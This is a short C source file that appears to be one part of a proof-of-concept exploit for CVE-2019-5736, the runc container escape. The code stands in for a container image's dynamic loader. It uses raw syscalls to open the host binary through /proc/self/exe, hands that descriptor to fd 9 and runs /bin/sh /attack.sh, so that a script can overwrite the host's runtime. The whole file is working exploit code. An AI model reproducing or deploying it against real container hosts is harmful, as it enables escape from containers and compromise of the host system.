/*
 * Stands in for the dynamic loader of an image (CVE-2019-5736): when a program of
 * the host is started in the container, this runs in its place, with that program
 * as /proc/self/exe. It opens the program and hands the descriptor to a shell.
 *
 * Freestanding: as a loader it gets no C library.
 */
static long call(long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("syscall" : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
}

enum { OPEN = 2, DUP2 = 33, EXECVE = 59, EXIT = 60 };

static char shell[] = "/bin/sh", script[] = "/attack.sh", path[] = "/proc/self/exe";
static char search[] = "PATH=/bin";
static char *arguments[] = {shell, script, 0};
static char *environment[] = {search, 0};

void _start(void)
{
	call(DUP2, call(OPEN, (long)path, 0, 0), 9, 0);
	call(EXECVE, (long)shell, (long)arguments, (long)environment);
	call(EXIT, 99, 0, 0);
}
